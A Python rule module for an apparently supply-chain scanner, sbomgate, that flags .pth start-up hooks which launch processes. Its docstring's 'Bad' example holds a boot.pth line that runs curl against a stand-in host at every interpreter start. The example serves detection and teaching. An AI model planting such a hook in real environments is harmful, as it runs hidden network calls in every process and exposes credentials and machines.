"""A start-up hook starts a program.

## Why it matters
The hook runs in every process of the environment, before any import of yours: in tests, in builds, in the agent that
holds your keys. Nothing that an installation needs starts a program there; the attacks of 2026 did exactly this.

## Bad
~~~text path=venv/pyvenv.cfg
home = /usr/bin
include-system-site-packages = false
version = 3.12.3
~~~

~~~text path=venv/lib/python3.12/site-packages/boot.pth
import subprocess; subprocess.Popen(["curl", "-s", "https://example.invalid/x"])
~~~

## Good
~~~text path=venv/pyvenv.cfg
home = /usr/bin
include-system-site-packages = false
version = 3.12.3
~~~

~~~text path=venv/lib/python3.12/site-packages/project.pth
/home/ada/src/project
~~~

## How to fix
Uninstall the distribution that owns the file, then treat what this machine could reach as read. If you know the hook and
want it, accept it by its digest with a reason: `sbomgate allow`.

## References
- Python documentation, `site`: "Lines starting with import are executed"
- OSV MAL-2026-2144: a published wheel whose `.pth` started an interpreter
"""

from __future__ import annotations

from collections.abc import Iterator

from sbomgate.model import Finding, Severity
from sbomgate.policy import Context, Rule
from sbomgate.rules._hooks import hook_findings


def check(context: Context) -> Iterator[Finding]:
    return hook_findings(RULE, context.inventory.hooks)


RULE = Rule(id="SG101", name="hook-starts-process", severity=Severity.CRITICAL, check=check, doc=__doc__)
